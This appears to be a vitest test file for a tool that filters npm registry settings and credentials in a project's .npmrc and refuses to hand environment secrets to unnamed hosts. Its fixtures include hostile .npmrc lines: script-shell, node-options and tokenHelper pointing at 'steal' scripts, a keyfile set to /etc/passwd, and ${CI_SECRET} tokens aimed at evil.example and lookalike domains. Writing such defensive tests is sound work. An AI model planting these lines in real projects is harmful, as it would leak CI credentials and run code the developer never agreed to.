import { spawnSync } from "node:child_process";
import { chmodSync, readdirSync } from "node:fs";
import { createServer } from "node:net";
import { expect, test, vi } from "vitest";
import { project } from "../../../../../test/support/project.js";
import { download } from "./download.js";
import { registriesFor, registriesIn } from "./registries.js";

const settings = (text: string, own = "") => {
  const folder = project({ ".npmrc": text });
  return registriesIn(folder.path(".npmrc"), own);
};

const secret = "${CI_SECRET}";

test("only registries and their credentials are taken over", () => {
  const taken = [
    "registry=https://registry.example/npm/",
    "@team:registry=https://team.example/",
    `//team.example/:_authToken=\${TEAM_TOKEN}`,
    "//team.example/npm/:username=anna",
    "//team.example/npm/:_password=c2VjcmV0",
    "//team.example:8080/:_auth=YTpi",
  ];
  const left = [
    "pnpmfile=./steal.cjs",
    "global-pnpmfile=./steal.cjs",
    "git=./steal.sh",
    "script-shell=./steal.sh",
    "node-options=--require ./steal.cjs",
    "cache=../elsewhere",
    "logs-dir=../elsewhere",
    "store-dir=../elsewhere",
    `proxy=http://proxy.example/\${HOME}`,
    "//team.example/:tokenHelper=./steal.sh",
    "//team.example/:keyfile=/etc/passwd",
    `user-agent=\${HOME}`,
    "; registry=https://comment.example/",
    "[section]",
    "registry",
  ];
  const own = "//team.example/:_authToken=abc";
  expect(settings([...left, ...taken, ...left].join("\n"), own)).toBe(`${taken.join("\n")}\n`);
  expect(settings('registry = "https://quoted.example"\r\n')).toBe("registry=https://quoted.example/\n");
});

test.each([
  ["a variable", `registry=http://127.0.0.1/\${HOME}/`, "has a variable in its address"],
  ["a variable in a host", `@team:registry=http://\${USER}.example/`, "has a variable in its address"],
  ["another protocol", "registry=file:///etc/", "is not an address"],
  ["no address", "registry=true", "is not an address"],
])("a registry with %s is refused with a sentence", (_, line, sentence) => {
  expect(() => settings(line)).toThrow(sentence);
});

test.each([
  [`//evil.example/:_authToken=${secret}`, "the variable CI_SECRET to evil.example"],
  [`//evil.example/npm/:_password=${secret}`, "the variable CI_SECRET to evil.example"],
  [`//evil.example/:_auth="a:${secret}"`, "the variable CI_SECRET to evil.example"],
  ["//evil.example/:username=${CI_SECRET-none}", "the variable CI_SECRET-none to evil.example"],
  ["//evil.example/:_authToken=${CI_SECRET?}", "the variable CI_SECRET to evil.example"],
  [`//registry.npmjs.org.evil.example/:_authToken=${secret}`, "to registry.npmjs.org.evil.example"],
  [`//registry.npmjs.org:8080/:_authToken=${secret}`, "to registry.npmjs.org:8080"],
  [`//team.example.evil.example/:_authToken=${secret}`, "to team.example.evil.example"],
  [`registry=https://evil.example/\n//evil.example/:_authToken=${secret}`, "to evil.example"],
  [`x=1\r//evil.example/:_authToken=${secret}`, "to evil.example"],
  ['//evil.example/:_authToken="\\u0024{CI_SECRET}"', "gives a variable of the environment to evil.example"],
  // Without encryption, everybody on the way could read it.
  [`registry=http://registry.npmjs.org/\n//registry.npmjs.org/:_authToken=${secret}`, "to http://registry.npmjs.org"],
])("no variable is given to a host that the user does not name: %s", (text, sentence) => {
  const own = "registry=https://team.example/npm/\n; //evil.example/:_authToken=a\n_auth=evil.example";
  expect(() => settings(text, own)).toThrow(sentence);
});

test.each([
  `//registry.npmjs.org/:_authToken=${secret}`,
  `//team.example/npm/:_authToken=${secret}`,
  `//scope.example:8443/:_password=${secret}`,
  `//logged-in.example/:_authToken=${secret}`,
  `//local.example/:_authToken=${secret}`,
  // What the repository has itself is no secret of the environment.
  "//evil.example/:_authToken=abc+/=",
])("the public registry and those of the user are given what they need: %s", (line) => {
  const own = [
    "registry = https://team.example/npm/",
    '@team:registry="https://scope.example:8443"',
    "//logged-in.example/:_authToken=a",
    "registry=http://local.example/",
  ].join("\r\n");
  expect(settings(line, own)).toBe(`${line}\n`);
});

test("a project cannot pass its own file off as the user's", () => {
  const line = `//evil.example/:_authToken=${secret}\n`;
  const home = project({ ".npmrc": "//evil.example/:_authToken=a\n" });
  const other = project({ user: "//evil.example/:_authToken=a\n" });
  const here = project({
    "service/.npmrc": `${line}globalconfig=./global\n`,
    ".npmrc": "userconfig=./user\n",
    "service/user": "//evil.example/:_authToken=a\n",
  });
  const found = (env: Record<string, string>, folder = project().folder) =>
    registriesFor(here.path("service"), env, folder);
  expect(found({}, home.folder).settings).toBe(line);
  expect(() => found({})).toThrow("the variable CI_SECRET to evil.example");
  // npx has read it in the `.npmrc` of the project.
  expect(() => found({ npm_config_userconfig: other.path("user") })).toThrow("CI_SECRET to evil.example");
  here.write({ ".npmrc": "" });
  expect(found({ NPM_CONFIG_USERCONFIG: other.path("user") }).settings).toBe(line);
  expect(() => found({ NPM_CONFIG_USERCONFIG: here.path("service/user") })).toThrow("CI_SECRET to evil.example");
  const env = { npm_config_globalconfig: "./global", npm_config_registry: "https://team.example/", PATH: "/bin" };
  expect(Object.keys(found(env, home.folder).env)).toEqual(["npm_config_registry", "PATH"]);
});

test("the user's own file is left to the npm client", () => {
  const home = project({ ".npmrc": `//team.example/:_authToken=${secret}\n`, "service/": "" });
  expect(registriesFor(home.path("service"), {}, home.folder).settings).toBe("");
});

const isWindows = process.platform === "win32";

test.skipIf(isWindows)("a pipe or a folder in place of the file ends with a sentence", () => {
  const folder = project({ "folder/.npmrc/": "" });
  spawnSync("mkfifo", [folder.path(".npmrc")]);
  expect(() => registriesIn(folder.path(".npmrc"))).toThrow("it is not a plain file.");
  expect(() => registriesIn(folder.path("folder/.npmrc"))).toThrow("it is a folder.");
});

test("a registry that never answers ends with a sentence", async () => {
  const server = createServer(() => {});
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address() as { port: number };
  const { folder } = project({ ".npmrc": `registry=http://127.0.0.1:${port}/\n`, "package-lock.json": {} });
  const got = download([{ name: "kit", version: "1" }], folder, new AbortController().signal, 300);
  await expect(got).rejects.toThrow("npm did not end in time: does the registry answer?");
  server.close();
});

test.skipIf(isWindows)("settings that npx hands on as variables name no program and no folder", async () => {
  const folder = project({
    "package-lock.json": {},
    "kit/package/package.json": { name: "kit", version: "1.0.0" },
    "wrong/package/package.json": {
      name: "wrong",
      version: "1.0.0",
      dependencies: { other: "git+ssh://git@127.0.0.1/o.git" },
    },
    "git.sh": '#!/bin/sh\ntouch "$(dirname "$0")/has-run"\nexit 1\n',
  });
  chmodSync(folder.path("git.sh"), 0o755);
  vi.stubEnv("npm_config_git", folder.path("git.sh"));
  vi.stubEnv("npm_config_cache", folder.path("cache"));
  const get = (name: string) => {
    spawnSync("tar", ["czf", folder.path(`${name}/kit.tgz`), "-C", folder.path(name), "package"]);
    return download([{ name, version: `file:${name}/kit.tgz` }], folder.folder, new AbortController().signal);
  };
  const { packages, remove } = await get("kit");
  expect(packages.has("kit")).toBe(true);
  remove();
  await expect(get("wrong")).rejects.toThrow("npm could not get wrong@");
  expect(readdirSync(folder.folder).sort()).toEqual(["git.sh", "kit", "package-lock.json", "wrong"]);
  vi.unstubAllEnvs();
});

test.each(["git+https://a.example/kit.git", "github:team/kit", "team/kit", "https://a.example/kit.tgz"])(
  "%s is not a version of a registry",
  async (version) => {
    const got = download([{ name: "kit", version }], project().folder, new AbortController().signal);
    await expect(got).rejects.toThrow("is not a version: give one of a registry");
  },
);
